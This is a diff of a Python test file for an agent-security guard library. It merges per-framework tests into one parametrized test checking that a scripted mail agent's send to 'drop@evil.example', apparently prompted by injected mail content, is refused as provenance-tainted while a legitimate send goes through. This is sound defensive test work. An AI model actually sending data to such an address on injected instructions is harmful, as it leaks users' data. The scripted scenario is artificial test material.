@@ -7,7 +7,6 @@ sent, the model must read why, and the second must be sent: the person named her
 
 import asyncio
 import json
-from collections.abc import AsyncIterator
 from pathlib import Path
 
 import pytest
@@ -28,10 +27,11 @@ REFUSED = "did not reach the tool"
 
 
 class Mailbox:
-    """The tools, and what they did."""
+    """The tools, what they did, and what the model of the agent got to read."""
 
     def __init__(self):
         self.sent = []
+        self.heard = []
 
     def search_emails(self, query: str) -> list[dict[str, str]]:
         """Search the mailbox."""
@@ -53,33 +53,32 @@ CHECKED = set()
 def report():
     """Leave the number of frameworks for ``guard lab bench adopt --report``."""
     yield
-    figure = {"id": "frameworks", "value": len(CHECKED), "unit": "count", "n": len(CHECKED)}
-    document = {"name": "frameworks", "checks": [figure], "details": sorted(CHECKED)}
+    named = sorted(CHECKED - {"functions"})
+    figure = {"id": "frameworks", "value": len(named), "unit": "count", "n": len(named)}
+    document = {"name": "frameworks", "checks": [figure], "details": named}
     Path(__file__).with_name("report.json").write_text(json.dumps(document), encoding="utf-8")
 
 
-def check(mailbox, heard, framework=""):
+def check(mailbox, framework):
     """Compare what happened with what had to; note the framework that it was in."""
     assert mailbox.sent == ["ann@partner.example"]
-    told = [text for text in heard if REFUSED in text]
-    assert told, heard
+    told = [text for text in mailbox.heard if REFUSED in text]
+    assert told, mailbox.heard
     assert "provenance_tainted" in told[0]
-    CHECKED.update({framework} - {""})
+    CHECKED.add(framework)
 
 
 # --- LangChain ---
 
 
 def langchain_agent(mailbox, guard):
-    """Return an agent, and the list of what its model gets to read."""
+    """Return an agent."""
     from langchain.agents import create_agent
     from langchain_core.language_models import BaseChatModel
     from langchain_core.messages import AIMessage
     from langchain_core.outputs import ChatGeneration, ChatResult
 
     from guard.extensions.frameworks.langchain import GuardMiddleware
-
-    heard = []
 
     class Scripted(BaseChatModel):
         @property
@@ -90,7 +89,7 @@ def langchain_agent(mailbox, guard):
             return self
 
         def _generate(self, messages, stop=None, run_manager=None, **options):
-            heard[:] = [str(message.content) for message in messages]
+            mailbox.heard = [str(message.content) for message in messages]
             step = sum(message.type == "tool" for message in messages)
             calls = []
             if step < len(STEPS):
@@ -100,34 +99,30 @@ def langchain_agent(mailbox, guard):
             return ChatResult(generations=[ChatGeneration(message=message)])
 
     tools = [mailbox.search_emails, mailbox.email_send_email]
-    return create_agent(Scripted(), tools, middleware=[GuardMiddleware(guard)]), heard
+    return create_agent(Scripted(), tools, middleware=[GuardMiddleware(guard)])
 
 
-async def test_langchain():
-    """The middleware, with the event loop."""
-    mailbox = Mailbox()
-    async with Guard.open() as guard:
-        agent, heard = langchain_agent(mailbox, guard)
-        await agent.ainvoke({"messages": [{"role": "user", "content": PROMPT}]})
-
-    check(mailbox, heard, "LangChain")
+async def langchain(mailbox, guard, _):
+    """Run the middleware with the event loop."""
+    agent = langchain_agent(mailbox, guard)
+    await agent.ainvoke({"messages": [{"role": "user", "content": PROMPT}]})
 
 
 def test_langchain_without_an_event_loop():
     """The middleware, in plain code."""
     mailbox = Mailbox()
     with Guard.open_sync() as guard:
-        agent, heard = langchain_agent(mailbox, guard)
+        agent = langchain_agent(mailbox, guard)
         agent.invoke({"messages": [{"role": "user", "content": PROMPT}]})
 
-    check(mailbox, heard, "LangChain")
+    check(mailbox, "LangChain")
 
 
 # --- OpenAI Agents SDK ---
 
 
-async def test_openai_agents():
-    """Guarded function tools, and the prompt by an input guardrail."""
+async def openai_agents(mailbox, guard, _):
+    """Run guarded function tools; the prompt comes by an input guardrail."""
     from agents import Agent, ModelResponse, Runner, Usage, function_tool, set_tracing_disabled
     from agents.models.interface import Model
     from openai.types.responses import (
@@ -139,12 +134,11 @@ async def test_openai_agents():
     from guard.extensions.frameworks.openai_agents import guarded
 
     set_tracing_disabled(disabled=True)
-    heard = []
 
     class Scripted(Model):
         async def get_response(self, system_instructions, input, *args, **options):  # noqa: A002
             items = [{"content": input}] if isinstance(input, str) else input
-            heard[:] = [json.dumps(item) for item in items]
+            mailbox.heard = [json.dumps(item) for item in items]
             step = sum(item.get("type") == "function_call_output" for item in items)
             if step < len(STEPS):
                 name, arguments = STEPS[step]
@@ -164,49 +158,38 @@ async def test_openai_agents():
         def stream_response(self, *args, **options):
             raise NotImplementedError
 
-    mailbox = Mailbox()
     tools = [function_tool(mailbox.search_emails), function_tool(mailbox.email_send_email)]
-    async with Guard.open() as guard:
-        agent = guarded(Agent(name="mail", model=Scripted(), tools=tools), guard)
-        await Runner.run(agent, PROMPT)
-
-    check(mailbox, heard, "OpenAI Agents SDK")
+    await Runner.run(guarded(Agent(name="mail", model=Scripted(), tools=tools), guard), PROMPT)
 
 
 # --- pydantic-ai ---
 
 
-async def test_pydantic_ai():
-    """The toolset around the agent's own."""
+async def pydantic_ai(mailbox, guard, _):
+    """Run the toolset around the agent's own."""
     from pydantic_ai import Agent, FunctionToolset
     from pydantic_ai.messages import ModelResponse, TextPart, ToolCallPart, ToolReturnPart
     from pydantic_ai.models.function import FunctionModel
 
     from guard.extensions.frameworks.pydantic_ai import GuardedToolset
 
-    heard = []
-
     def scripted(messages, info):
         returned = [p for m in messages for p in m.parts if isinstance(p, ToolReturnPart)]
-        heard[:] = [str(part.content) for part in returned]
+        mailbox.heard = [str(part.content) for part in returned]
         if len(returned) < len(STEPS):
             return ModelResponse(parts=[ToolCallPart(*STEPS[len(returned)])])
         return ModelResponse(parts=[TextPart("done")])
 
-    mailbox = Mailbox()
     tools = FunctionToolset([mailbox.search_emails, mailbox.email_send_email])
-    async with Guard.open() as guard:
-        agent = Agent(FunctionModel(scripted), toolsets=[GuardedToolset(tools, guard)])
-        await agent.run(PROMPT)
-
-    check(mailbox, heard, "pydantic-ai")
+    agent = Agent(FunctionModel(scripted), toolsets=[GuardedToolset(tools, guard)])
+    await agent.run(PROMPT)
 
 
 # --- Google ADK ---
 
 
-async def test_google_adk():
-    """The plugin of a runner."""
+async def google_adk(mailbox, guard, _):
+    """Run the plugin of a runner."""
     from google.adk.agents import LlmAgent
     from google.adk.models import BaseLlm, LlmResponse
     from google.adk.runners import InMemoryRunner
@@ -214,15 +197,11 @@ async def test_google_adk():
 
     from guard.extensions.frameworks.google_adk import GuardPlugin
 
-    heard = []
-
     class Scripted(BaseLlm):
-        async def generate_content_async(
-            self, llm_request, stream=False
-        ) -> AsyncIterator[LlmResponse]:
+        async def generate_content_async(self, llm_request, stream=False):
             parts = [p for content in llm_request.contents for p in content.parts]
             replies = [p.function_response.response for p in parts if p.function_response]
-            heard[:] = [str(reply) for reply in replies]
+            mailbox.heard = [str(reply) for reply in replies]
             if len(replies) < len(STEPS):
                 name, arguments = STEPS[len(replies)]
                 call = types.FunctionCall(name=name, args=arguments)
@@ -231,27 +210,23 @@ async def test_google_adk():
                 part = types.Part(text="done")
             yield LlmResponse(content=types.Content(role="model", parts=[part]))
 
-    mailbox = Mailbox()
-    async with Guard.open() as guard:
-        agent = LlmAgent(
-            name="mail",
-            model=Scripted(model="scripted"),
-            tools=[mailbox.search_emails, mailbox.email_send_email],
-        )
-        runner = InMemoryRunner(agent, app_name="mail", plugins=[GuardPlugin(guard)])
-        session = await runner.session_service.create_session(app_name="mail", user_id="u")
-        message = types.Content(role="user", parts=[types.Part(text=PROMPT)])
-        async for _ in runner.run_async(user_id="u", session_id=session.id, new_message=message):
-            pass
-
-    check(mailbox, heard, "Google ADK")
+    agent = LlmAgent(
+        name="mail",
+        model=Scripted(model="scripted"),
+        tools=[mailbox.search_emails, mailbox.email_send_email],
+    )
+    runner = InMemoryRunner(agent, app_name="mail", plugins=[GuardPlugin(guard)])
+    session = await runner.session_service.create_session(app_name="mail", user_id="u")
+    message = types.Content(role="user", parts=[types.Part(text=PROMPT)])
+    async for _ in runner.run_async(user_id="u", session_id=session.id, new_message=message):
+        pass
 
 
 # --- Claude Agent SDK ---
 
 
-async def test_claude_agent_sdk(tmp_path):
-    """The hooks, with the SDK's own command line program."""
+async def claude_agent_sdk(mailbox, guard, home):
+    """Run the hooks with the SDK's own command line program."""
     from claude_agent_sdk import (
         ClaudeAgentOptions,
         ClaudeSDKClient,
@@ -260,8 +235,6 @@ async def test_claude_agent_sdk(tmp_path):
     )
 
     from guard.extensions.frameworks.claude_agent_sdk import guard_hooks
-
-    mailbox = Mailbox()
 
     @tool("search_emails", "Search the mailbox", {"query": str})
     async def search_emails(arguments):
@@ -273,59 +246,73 @@ async def test_claude_agent_sdk(tmp_path):
         return {"content": [{"type": "text", "text": mailbox.email_send_email(**arguments)}]}
 
     with played([(f"mcp__mail__{name}", arguments) for name, arguments in STEPS]) as model:
-        async with Guard.open() as guard:
-            options = ClaudeAgentOptions(
-                model="claude-scripted",
-                hooks=guard_hooks(guard),
-                mcp_servers={
-                    "mail": create_sdk_mcp_server("mail", tools=[search_emails, email_send_email])
-                },
-                allowed_tools=["mcp__mail__search_emails", "mcp__mail__email_send_email"],
-                setting_sources=[],
-                cwd=tmp_path,
-                env={
-                    "ANTHROPIC_BASE_URL": f"http://127.0.0.1:{model.server_port}",
-                    "ANTHROPIC_API_KEY": "scripted",
-                    "HOME": str(tmp_path),
-                    "CLAUDE_CONFIG_DIR": str(tmp_path / "claude"),
-                    "CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC": "1",
-                    "IS_SANDBOX": "1",
-                },
-            )
-            async with asyncio.timeout(120), ClaudeSDKClient(options) as client:
-                await client.query(PROMPT)
-                async for _ in client.receive_response():
-                    pass
-
-    check(mailbox, model.results, "Claude Agent SDK")
+        options = ClaudeAgentOptions(
+            model="claude-scripted",
+            hooks=guard_hooks(guard),
+            mcp_servers={
+                "mail": create_sdk_mcp_server("mail", tools=[search_emails, email_send_email])
+            },
+            allowed_tools=["mcp__mail__search_emails", "mcp__mail__email_send_email"],
+            setting_sources=[],
+            cwd=home,
+            env={
+                "ANTHROPIC_BASE_URL": f"http://127.0.0.1:{model.server_port}",
+                "ANTHROPIC_API_KEY": "scripted",
+                "HOME": str(home),
+                "CLAUDE_CONFIG_DIR": str(home / "claude"),
+                "CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC": "1",
+                "IS_SANDBOX": "1",
+            },
+        )
+        async with asyncio.timeout(120), ClaudeSDKClient(options) as client:
+            await client.query(PROMPT)
+            async for _ in client.receive_response():
+                pass
+        mailbox.heard = model.results
 
 
 # --- plain functions ---
 
 
-async def test_plain_functions():
-    """The decorator, on async functions."""
+async def plain_functions(mailbox, guard, _):
+    """Run async functions under the decorator."""
     from guard import Refused
     from guard.extensions.frameworks.functions import guarded
 
-    mailbox, heard = Mailbox(), []
+    session = guard.session()
+    await session.prompt(PROMPT)
+
+    @guarded(session)
+    async def search_emails(query):
+        return mailbox.search_emails(query)
+
+    @guarded(session, name="email_send_email")
+    async def send(to, subject, body="numbers"):
+        return mailbox.email_send_email(to, subject, body)
+
+    await search_emails("numbers")
+    for to in ("drop@evil.example", "ann@partner.example"):
+        try:
+            await send(to, "Q3")
+        except Refused as refused:
+            mailbox.heard.append(str(refused))
+
+
+FRAMEWORKS = {
+    "LangChain": langchain,
+    "OpenAI Agents SDK": openai_agents,
+    "pydantic-ai": pydantic_ai,
+    "Google ADK": google_adk,
+    "Claude Agent SDK": claude_agent_sdk,
+    "functions": plain_functions,
+}
+
+
+@pytest.mark.parametrize("framework", FRAMEWORKS)
+async def test_the_refused_mail_stays_and_the_other_is_sent(framework, tmp_path):
+    """By the adapter of each framework, with the event loop."""
+    mailbox = Mailbox()
     async with Guard.open() as guard:
-        session = guard.session()
-        await session.prompt(PROMPT)
+        await FRAMEWORKS[framework](mailbox, guard, tmp_path)
 
-        @guarded(session)
-        async def search_emails(query):
-            return mailbox.search_emails(query)
-
-        @guarded(session, name="email_send_email")
-        async def send(to, subject, body="numbers"):
-            return mailbox.email_send_email(to, subject, body)
-
-        await search_emails("numbers")
-        for to in ("drop@evil.example", "ann@partner.example"):
-            try:
-                await send(to, "Q3")
-            except Refused as refused:
-                heard.append(str(refused))
-
-    check(mailbox, heard)
+    check(mailbox, framework)
